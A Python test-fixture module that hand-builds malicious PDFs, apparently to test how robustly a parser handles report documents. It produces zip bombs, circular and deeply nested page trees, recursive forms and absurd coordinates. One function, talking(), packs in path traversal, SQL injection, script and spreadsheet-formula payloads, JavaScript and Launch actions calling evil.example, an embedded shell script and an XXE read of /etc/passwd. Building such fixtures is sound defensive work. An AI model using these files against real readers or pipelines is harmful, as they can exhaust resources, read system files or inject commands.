"""PDFs made to do harm, written by hand: bombs, circles, lies about counts and sizes. Each takes a few kilobytes."""

from __future__ import annotations

import zlib
from collections.abc import Mapping, Sequence

TEXT = b"BT /F1 10 Tf 72 %d Td (Indikator Kinerja Target 2024 Realisasi Capaian %d) Tj ET\n"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 9 0 R>>>>/Contents 4 0 R>>"
LINES = b"".join(TEXT % (780 - 14 * n, n) for n in range(20))
BLOCK = 1 << 20


def pdf(objects: Mapping[int, bytes]) -> bytes:
    """A PDF of numbered objects; object 1 is the catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start, last = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % last
    for number in range(1, last):
        out += b"%010d 00000 %c \n" % (places.get(number, 0), b"n" if number in places else b"f")
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (last, start)
    return bytes(out)


def stream(data: bytes, head: bytes = b"") -> bytes:
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (head, len(data), data)


def report(pages: Sequence[bytes] = (PAGE,), content: bytes | None = None, **more: bytes) -> dict[int, bytes]:
    """The objects of a small report: catalogue 1, page tree 2, first page 3, its content 4, font 9, pages from 10."""
    kids = [3, *range(10, 9 + len(pages))]
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Count %d/Kids[%b]>>" % (len(kids), b" ".join(b"%d 0 R" % kid for kid in kids)),
        4: content if content is not None else stream(LINES),
        9: FONT,
    }
    objects |= dict(zip(kids, pages, strict=True))
    return objects | {int(number.removeprefix("_")): body for number, body in more.items()}


def packed_zeros(megabytes: int, filler: bytes = b" ") -> bytes:
    """So many megabytes of one byte, packed into a thousandth of that."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(filler * BLOCK) for _ in range(megabytes)) + packer.flush()


def bomb(megabytes: int) -> bytes:
    """A page whose content unpacks to so many megabytes."""
    return pdf(report(content=stream(packed_zeros(megabytes), b"/Filter/FlateDecode")))


def bomb_in_a_bomb(megabytes: int) -> bytes:
    twice = zlib.compress(packed_zeros(megabytes), 9)
    return pdf(report(content=stream(twice, b"/Filter[/FlateDecode/FlateDecode]")))


def bomb_of_text(megabytes: int) -> bytes:
    """A page of so many megabytes of letters."""
    letters = b"BT /F1 1 Tf 72 700 Td (" + b"Indikator 1 " * (megabytes * BLOCK // 12) + b") Tj ET"
    return pdf(report(content=stream(zlib.compress(letters, 9), b"/Filter/FlateDecode")))


def deep_tree(depth: int) -> bytes:
    """A page under so many page trees, one in the other."""
    objects = report()
    last = 100 + depth
    objects[2] = b"<</Type/Pages/Count 1/Kids[100 0 R]>>"
    for number in range(100, last):
        child = 3 if number == last - 1 else number + 1
        objects[number] = b"<</Type/Pages/Count 1/Parent %d 0 R/Kids[%d 0 R]>>" % (max(2, number - 1), child)
    return pdf(objects)


def circle_of_pages() -> bytes:
    """A page tree that is its own child."""
    return pdf(report() | {2: b"<</Type/Pages/Count 3/Kids[2 0 R 3 0 R 2 0 R]/Parent 2 0 R>>"})


def lying_count(count: int) -> bytes:
    """A page tree that claims to have so many pages and has one."""
    return pdf(report() | {2: b"<</Type/Pages/Count %d/Kids[3 0 R]>>" % count})


def circle_of_forms() -> bytes:
    """Two forms that draw each other, ten times each."""
    page = PAGE.replace(b"/Font<<", b"/XObject<</X 20 0 R>>/Font<<")
    head = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X %d 0 R>>>>"
    return pdf(
        report([page], content=stream(LINES + b"/X Do\n" * 10))
        | {20: stream(b"/X Do\n" * 10, head % 21), 21: stream(b"/X Do\n" * 10, head % 20)}
    )


def forms_in_forms(depth: int, width: int) -> bytes:
    """Forms that draw the next one `width` times, `depth` deep: width ** depth drawings."""
    page = PAGE.replace(b"/Font<<", b"/XObject<</X 20 0 R>>/Font<<")
    head = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X %d 0 R>>>>"
    forms = {20 + n: stream(b"/X Do\n" * width, head % (21 + n)) for n in range(depth)}
    return pdf(
        report([page], content=stream(LINES + b"/X Do\n"))
        | forms
        | {20 + depth: stream(b"0 0 9 9 re f", head % (20 + depth))}
    )


def huge_image(side: int) -> bytes:
    """A page that is a picture of side × side dots, packed into nothing."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</XObject<</I 20 0 R>>>>/Contents 4 0 R>>"
    head = b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 1/ColorSpace/DeviceGray" % (side, side)
    data = packed_zeros(min(side * side // 8 // BLOCK + 1, 64), b"\xff")
    return pdf(
        report([page], content=stream(b"595 0 0 842 0 0 cm /I Do")) | {20: stream(data, head + b"/Filter/FlateDecode")}
    )


def page_of_size(box: bytes) -> bytes:
    return pdf(report([PAGE.replace(b"[0 0 595 842]", box)]))


def many_paths(count: int) -> bytes:
    """A page that draws so many small boxes."""
    drawn = b"".join(b"%d %d 4 4 re S\n" % (n % 590, n // 590 % 840) for n in range(count))
    return pdf(report(content=stream(zlib.compress(LINES + drawn), b"/Filter/FlateDecode")))


def broken_page() -> bytes:
    """Two pages, of which the first is none."""
    return pdf(report([b"<</Type/Nonsense>>", PAGE]))


def no_numbers() -> bytes:
    """Text and rules at places that are no numbers or beyond all bounds."""
    odd = (
        b"BT /F1 1e30 Tf 1e38 -1e38 Td (Indikator Target 2024) Tj ET\n1e38 1e38 m -1e38 1e38 l S\n0 0 1e39 1e39 re S\n"
    )
    return pdf(report(content=stream(LINES + odd * 40)))


def talking() -> bytes:
    """A page with all that a PDF can ask a reader to do or believe: names that are paths, code, programs, addresses."""
    evil = b"(../../../../tmp/pwned.txt'\\); DROP TABLE document_rows;--<script>alert\\(1\\)</script>=cmd|'/C calc'!A0)"
    start = b"<</S/JavaScript/JS(app.launchURL\\('http://evil.example/'\\))/Next<</S/Launch/F%b/Next<</S/URI/URI" % evil
    act = start + b"(http://evil.example/x)/Next<</S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]>>>>>>>>"
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A 30 0 R>>"
    attached = b"<</Type/Filespec/F%b/UF%b/EF<</F 32 0 R>>>>" % (evil, evil)
    catalog = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 30 0 R/AA<</WC 30 0 R>>/Names<</EmbeddedFiles<</Names[%b 31 0 R]>>"
        b"/JavaScript<</Names[(x)30 0 R]>>>>/Outlines 33 0 R/Metadata 34 0 R/PageLabels<</Nums[0<</P%b>>]>>>>"
    )
    page = PAGE.replace(b"/Contents", b"/AA<</O 30 0 R>>/Annots[35 0 R]/Contents")
    objects = report([page]) | {
        1: catalog % (evil, evil),
        9: FONT.replace(b"Helvetica", b"#2E#2E#2F#2E#2E#2Fetc#2Fpasswd"),
        30: act,
        31: attached,
        32: stream(b"#!/bin/sh\ntouch pwned\n", b"/Type/EmbeddedFile"),
        33: b"<</Type/Outlines/Count 1/First 36 0 R/Last 36 0 R>>",
        34: stream(b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", b"/Type/Metadata/Subtype/XML"),
        35: link,
        36: b"<</Title%b/Parent 33 0 R/A 30 0 R>>" % evil,
        37: b"<</Title%b/Author%b/Producer%b/CreationDate%b>>" % (evil, evil, evil, evil),
    }
    return pdf(objects).replace(b"/Root 1 0 R", b"/Root 1 0 R/Info 37 0 R")
